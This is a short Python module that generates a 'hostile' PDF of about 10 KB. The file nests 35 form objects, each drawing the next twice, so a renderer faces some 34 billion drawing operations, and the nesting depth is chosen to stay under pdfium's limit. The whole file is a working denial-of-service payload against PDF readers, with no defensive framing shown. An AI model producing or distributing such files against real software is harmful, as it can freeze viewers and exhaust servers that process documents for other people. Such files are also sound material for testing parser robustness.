"""A small PDF that keeps a reader busy for years: each of its forms draws the next one twice."""

from __future__ import annotations

#: 2 ** LEVELS drawings; pdfium follows at most 40 forms into one another
LEVELS = 35


def hostile_pdf() -> bytes:
    """One page in about 10 KB."""
    first_form = 4
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] /Contents %d 0 R "
        b"/Resources << /XObject << /F %d 0 R >> >> >>" % (first_form + LEVELS, first_form),
    ]
    for level in range(LEVELS):
        last = level == LEVELS - 1
        body = b"0 0 10 10 re f" if last else b"/F Do /F Do"
        inside = b"" if last else b"/Resources << /XObject << /F %d 0 R >> >>" % (first_form + level + 1)
        head = b"<< /Type /XObject /Subtype /Form /BBox [0 0 600 800] %s /Length %d >>" % (inside, len(body))
        objects.append(head + b"\nstream\n" + body + b"\nendstream")
    objects.append(b"<< /Length 5 >>\nstream\n/F Do\nendstream")
    pdf, places = b"%PDF-1.7\n", []
    for number, each in enumerate(objects, 1):
        places.append(len(pdf))
        pdf += b"%d 0 obj\n%s\nendobj\n" % (number, each)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    return pdf + b"xref\n0 %d\n0000000000 65535 f \n%strailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        table,
        len(objects) + 1,
        len(pdf),
    )
